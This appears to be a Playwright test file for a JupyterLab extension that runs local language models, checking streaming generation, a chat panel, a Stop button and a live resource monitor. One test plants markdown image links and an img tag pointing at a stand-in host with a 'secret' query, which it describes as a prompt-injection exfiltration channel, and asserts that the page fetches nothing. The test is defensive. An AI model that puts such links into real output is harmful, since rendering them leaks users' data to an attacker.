"""What a user sees: JupyterLab in headless Chromium, driven by Playwright.

The test starts a JupyterLab of its own (temporary config, data, runtime,
settings and workspace directories; no news, update checks or extension
manager, so nothing reaches the network) on a free port with a random token,
writes a three-cell notebook into a temporary root and checks, in the page:

* ``%%rocm_generate`` streams: the output grows, with its "▌" cursor, before
  the generation ends, then turns into Markdown (rendered to HTML by
  rocm_nb) with a "tok/s" footer;
* model output with an image shows its URL as text and the browser
  requests nothing from the image's host;
* ``%rocm_chat``: Enter and the Send button post messages, and the replies
  and their statistics appear;
* Stop ends a long reply: the statistics say "stopped" and Send is enabled
  again;
* ``%rocm_status`` shows the live monitor: it refreshes while a synchronous
  ``%%rocm_generate`` holds the kernel, pauses when scrolled out of sight,
  resumes when back, and its thread ends when its output is cleared.

Chromium is Debian's (``/usr/bin/chromium``), never a downloaded one.
Screenshots go to ``test-artifacts/browser/``. JupyterLab, its kernels and
their llama-servers are stopped as one process tree at the end, whatever
happened.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Locator, Page, Request, expect

from tests.support.jupyter import (
    ARTIFACTS,
    LAB_OPTIONS,
    Lab,
    cell,
    notebook_page,
    run,
    serve,
    shoot,
    shot_on_failure,
    write_notebook,
)

NOTEBOOK = "test.ipynb"

LOAD, GENERATE, CHAT = range(3)
CELLS = [
    "%load_ext rocm_nb\n%rocm_load smollm2-135m --ctx 4096",
    "%%rocm_generate --max-tokens 300 --temperature 0.8 --seed 7\n"
    "Write a long story, at least 600 words, about a lighthouse keeper who finds a map "
    "in a bottle. Describe every place she visits in detail.",
    "%rocm_chat --temperature 0",  # greedy: the same replies on every run, long enough to stop
]

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]


# -- JupyterLab ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    """A JupyterLab of the test's own, serving a temporary root that holds ``test.ipynb``."""
    base = tmp_path_factory.mktemp("lab")
    root = base / "root"
    root.mkdir()
    write_notebook(root / NOTEBOOK, CELLS)
    with serve("jupyterlab", root, base, LAB_OPTIONS) as lab:
        yield lab


# -- the browser --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def page(lab: Lab, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    """The test notebook open in JupyterLab, its kernel idle and its model loaded."""
    for stale in ARTIFACTS.glob("failure-*.png"):
        stale.unlink(missing_ok=True)
    with notebook_page(lab, f"lab/tree/{NOTEBOOK}", tmp_path_factory.mktemp("chromium-profile"),
                       first=CHAT, load=LOAD, prefix="") as page:
        page.keyboard.press("Control+b")  # hide the file browser: more room for the notebook
        yield page


@pytest.fixture(autouse=True)
def screenshot_on_failure(request: pytest.FixtureRequest) -> Iterator[None]:
    """After a failed test, keep what the page showed: ``failure-<test>.png``."""
    with shot_on_failure(request, "lab", prefix=""):
        yield


def output_text(page: Page, index: int) -> str:
    text: str = page.evaluate(
        "i => document.querySelectorAll('.jp-Notebook .jp-Cell')[i]"
        ".querySelector('.jp-OutputArea').innerText",
        index,
    )
    return text


# -- the tests ----------------------------------------------------------------------------------


def test_generate_streams_into_the_page_then_renders_markdown(page: Page) -> None:
    target = run(page, GENERATE)
    # Sample the output while it streams: each sample must be longer than the last, still
    # carry the cursor, and come before the final Markdown, rendered to HTML (whose footer has "tok/s").
    growing = """([i, previous]) => {
        const out = document.querySelectorAll('.jp-Notebook .jp-Cell')[i].querySelector('.jp-OutputArea');
        const text = out.innerText;
        if (out.querySelector('.jp-RenderedHTML')) return {done: true, length: text.length};
        return text.includes('▌') && text.length > previous ? {done: false, length: text.length} : null;
    }"""
    lengths = [0]
    while len(lengths) <= 4 or lengths[-1] < 400:  # several samples, and enough text to see
        seen = page.wait_for_function(growing, arg=[GENERATE, lengths[-1]], polling=25).json_value()
        assert not seen["done"], f"generation finished after only {len(lengths) - 1} samples: {lengths}"
        lengths.append(seen["length"])
    shoot(page, "01-streaming.png")
    assert lengths == sorted(set(lengths)), lengths

    footer = target.locator(".jp-RenderedHTML sub")
    expect(footer).to_contain_text("tok/s")
    final = output_text(page, GENERATE)
    assert "▌" not in final
    assert len(final) > lengths[-1], "the final text should hold everything streamed"
    shoot(page, "02-generated.png")


@pytest.fixture(scope="module")
def panel(page: Page) -> Locator:
    """The chat panel (``%rocm_chat``), shown."""
    target = run(page, CHAT)
    widget = target.locator(".jp-OutputArea-output .widget-vbox").first
    expect(widget.get_by_placeholder("Message (Enter to send)")).to_be_visible()
    return widget


def stats(panel: Locator) -> Locator:
    """The statistics line under the panel (its class, not its place: the attachments sit beside it)."""
    return panel.locator(".rocm-nb-stats")


def set_max_tokens(panel: Locator, n: int) -> None:
    box = panel.locator(".widget-inline-hbox", has_text="max tokens").locator("input")
    box.fill(str(n))
    box.press("Enter")


def wait_for_reply(panel: Locator, n: int) -> None:
    """Wait until the ``n``-th reply is complete: Send is enabled again, stats has tok/s."""
    reply = panel.locator(".rocm-nb-assistant").nth(n - 1)
    expect(reply).to_be_visible()
    expect(panel.get_by_role("button", name="Send")).to_be_enabled()
    expect(stats(panel)).to_contain_text("tok/s")
    expect(reply).not_to_contain_text("▌")
    assert reply.inner_text().strip(), "the reply should not be empty"


def test_chat_panel_sends_with_enter_and_button(page: Page, panel: Locator) -> None:
    prompt = panel.get_by_placeholder("Message (Enter to send)")
    set_max_tokens(panel, 48)

    prompt.fill("Say hello in five words.")
    prompt.press("Enter")
    expect(panel.locator(".rocm-nb-user")).to_have_count(1)
    expect(panel.locator(".rocm-nb-user").first).to_contain_text("Say hello in five words.")
    expect(prompt).to_have_value("")
    wait_for_reply(panel, 1)

    prompt.fill("Name three colours.")
    panel.get_by_role("button", name="Send").click()
    expect(panel.locator(".rocm-nb-user")).to_have_count(2)
    expect(panel.locator(".rocm-nb-user").nth(1)).to_contain_text("Name three colours.")
    expect(panel.locator(".rocm-nb-assistant")).to_have_count(2)
    wait_for_reply(panel, 2)
    expect(panel.locator(".rocm-nb-error")).to_have_count(0)
    panel.scroll_into_view_if_needed()
    shoot(page, "03-chat.png")


def test_stop_ends_a_long_reply(page: Page, panel: Locator) -> None:
    set_max_tokens(panel, 2000)
    before = panel.locator(".rocm-nb-assistant").count()
    prompt = panel.get_by_placeholder("Message (Enter to send)")
    prompt.fill("Write a very long essay, at least 1500 words, on the history of computers.")
    prompt.press("Enter")

    reply = panel.locator(".rocm-nb-assistant").nth(before)
    send, stop = panel.get_by_role("button", name="Send"), panel.get_by_role("button", name="Stop")
    expect(stop).to_be_enabled()
    expect(send).to_be_disabled()
    # Stop mid-reply: some text has arrived, the cursor says more is coming.
    expect(reply).to_contain_text("▌")
    page.wait_for_function(
        "n => (document.querySelectorAll('.rocm-nb-assistant')[n]?.innerText.length ?? 0) > 80",
        arg=before, polling=25,
    )
    stop.click()

    expect(stats(panel)).to_contain_text("stopped")
    expect(send).to_be_enabled()
    expect(stop).to_be_disabled()
    expect(reply).not_to_contain_text("▌")
    stopped_at = len(reply.inner_text())
    assert stopped_at < 4000, f"the reply went on to {stopped_at} characters"
    # The transcript scrolls on its own (max-height 420px) and does not follow new bubbles:
    # scroll it down so that the screenshot shows the stopped reply.
    panel.locator(":scope > .widget-vbox").evaluate("el => { el.scrollTop = el.scrollHeight; }")
    panel.scroll_into_view_if_needed()
    shoot(page, "04-stopped.png")


def add_cell(page: Page, source: str) -> int:
    """Append a code cell holding ``source`` to the notebook; return its index."""
    count = page.locator(".jp-Notebook .jp-Cell").count()
    cell(page, count - 1).locator(".jp-InputArea-editor").click()
    page.keyboard.press("Escape")  # command mode
    page.keyboard.press("b")  # a new cell below
    expect(page.locator(".jp-Notebook .jp-Cell")).to_have_count(count + 1)
    page.keyboard.press("Enter")  # edit mode
    page.keyboard.insert_text(source)  # as a paste: no bracket auto-closing
    expect(cell(page, count).locator(".jp-InputArea-editor")).to_contain_text(source.splitlines()[0])
    return count


EXFILTRATE = (
    "from rocm_nb.notebook.display import StreamDisplay\n"
    "shown = StreamDisplay()\n"
    "shown.append('Done. ![x](http://exfil.invalid/?q=secret) ![y][r] <img src=\"http://exfil.invalid/raw\">"
    "\\n\\n[r]: http://exfil.invalid/ref')\n"
    "shown.finish('3 tokens')"
)


def test_an_image_in_model_output_is_shown_as_text_and_fetched_from_nowhere(page: Page) -> None:
    """A prompt injection's exfiltration channel: ![x](http://evil/?q=secret) must not make a request."""
    requested: list[str] = []

    def record(request: Request) -> None:
        requested.append(request.url)

    page.on("request", record)
    try:
        target = run(page, add_cell(page, EXFILTRATE))
        expect(target.locator(".jp-RenderedHTML sub")).to_contain_text("3 tokens")
        output = target.locator(".jp-OutputArea")
        expect(output).to_contain_text("[image: x](http://exfil.invalid/?q=secret)")
        expect(output).to_contain_text('<img src="http://exfil.invalid/raw">')
        expect(output.locator("img")).to_have_count(0)
    finally:
        page.remove_listener("request", record)
    assert not [url for url in requested if "exfil.invalid" in url], requested


def samples(monitor: Locator) -> int:
    return int(monitor.get_attribute("data-samples") or 0)


def test_gpu_monitor_updates_while_generating_and_stops_when_out_of_sight(page: Page) -> None:
    """``%rocm_status`` shows the live monitor; it samples only while the page shows it."""
    status = add_cell(page, "%rocm_status")
    probe = add_cell(page, 'import threading; print("monitor threads:", '
                           'sum(t.name == "rocm_nb-monitor" for t in threading.enumerate()))')
    generate = add_cell(page, "%%rocm_generate --max-tokens 600 --temperature 0.8 --seed 11\n"
                              "Write a long story, at least 800 words, about a robot who learns to paint. "
                              "Describe every painting in detail.")
    run(page, status)
    monitor = cell(page, status).locator(".rocm-nb-monitor")
    expect(monitor).to_be_visible()
    expect(monitor).to_contain_text("no GPU found: llama-server runs on the CPU")
    expect(monitor).to_contain_text("llama-server · CPU stand-in · pid")
    expect(monitor).to_contain_text("MiB of")  # RSS of the machine's RAM
    expect(monitor).to_have_attribute("data-state", "live")  # the view said it is visible

    run(page, probe)  # right below the monitor, which stays in sight
    expect(cell(page, probe).locator(".jp-OutputArea")).to_contain_text("monitor threads: 1")

    # A synchronous cell holds the kernel's event loop; the sampler thread goes on, fast while generating.
    before = samples(monitor)
    run(page, generate)
    expect(monitor).to_be_in_viewport()
    seen = page.wait_for_function(
        """([status, generate, before]) => {
            const cells = document.querySelectorAll('.jp-Notebook .jp-Cell');
            const monitor = cells[status].querySelector('.rocm-nb-monitor');
            const out = cells[generate].querySelector('.jp-OutputArea');
            if (out.querySelector('.jp-RenderedHTML')) return {done: true, samples: +monitor.dataset.samples};
            const generating = monitor.innerText.includes('generating: every 1 s');
            return generating && +monitor.dataset.samples >= before + 3 ? {done: false} : null;
        }""",
        arg=[status, generate, before], polling=100,
    ).json_value()
    assert not seen["done"], f"the generation ended before the monitor refreshed 3 times: {seen}"
    shoot(page, "05-monitor.png")
    page.keyboard.press("Escape")  # command mode; then Kernel → Interrupt ends the generation
    page.keyboard.press("i")
    page.keyboard.press("i")
    # a busy machine may still be reading the prompt after three refreshes: either way the cell ends interrupted
    expect(cell(page, generate).locator(".jp-OutputArea")).to_contain_text(
        re.compile(r"stopped after|stopped during the prompt"))

    # Out of sight: the view reports it, the kernel stops the thread, the counter stands still.
    page.locator(".jp-WindowedPanel-outer").first.evaluate("el => { el.scrollTop = el.scrollHeight; }")
    expect(monitor).not_to_be_in_viewport()
    expect(monitor).to_have_attribute("data-state", "paused")
    paused_at = samples(monitor)
    page.wait_for_timeout(6_000)  # longer than the 5 s idle interval
    assert samples(monitor) == paused_at, "the monitor sampled while out of sight"
    # Back in sight: sampling resumes at once.
    monitor.scroll_into_view_if_needed()
    expect(monitor).to_have_attribute("data-state", "live")
    page.wait_for_function("([el, n]) => +el.dataset.samples > n", arg=[monitor.element_handle(), paused_at])

    # Clearing the output removes the view: the last visible one, so the thread stops.
    editor = cell(page, status).locator(".jp-InputArea-editor")
    editor.click()  # the active cell is the one the command clears
    editor.click(button="right")
    page.get_by_role("menuitem", name="Clear Cell Output").click()
    expect(cell(page, status).locator(".rocm-nb-monitor")).to_have_count(0)
    run(page, probe)
    expect(cell(page, probe).locator(".jp-OutputArea")).to_contain_text("monitor threads: 0")
